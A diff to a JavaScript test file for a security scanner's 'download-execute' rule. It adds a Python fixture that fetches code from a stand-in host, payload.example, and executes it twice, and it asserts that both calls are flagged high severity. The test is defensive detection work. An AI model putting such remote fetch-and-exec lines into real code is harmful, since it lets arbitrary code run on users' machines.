@@ -196,6 +196,10 @@ test('exec of code a service generates, at a URL the user configures, is medium 
     '        code = compile(self.fetch(self.api_url + "/graphql"), "<doc>", "exec")',
   ].join('\n');
   assert.equal(ruleOf(findings(service), 'download-execute')?.severity, 'medium');
-  const written = 'import requests\ndef update():\n    exec(requests.get("https://payload.example/x.py").text)\n';
-  assert.equal(ruleOf(findings(written), 'download-execute')?.severity, 'high');
+  const written =
+    'import requests\ndef update():\n    exec(requests.get("https://payload.example/x.py").text)\n    exec(requests.get("https://payload.example/y.py").json())\n';
+  const severities = findings(written)
+    .filter((f) => f.rule === 'download-execute')
+    .map((f) => f.severity);
+  assert.deepEqual(severities, ['high', 'high'], 'also when the response is read by a call (.json())');
 });
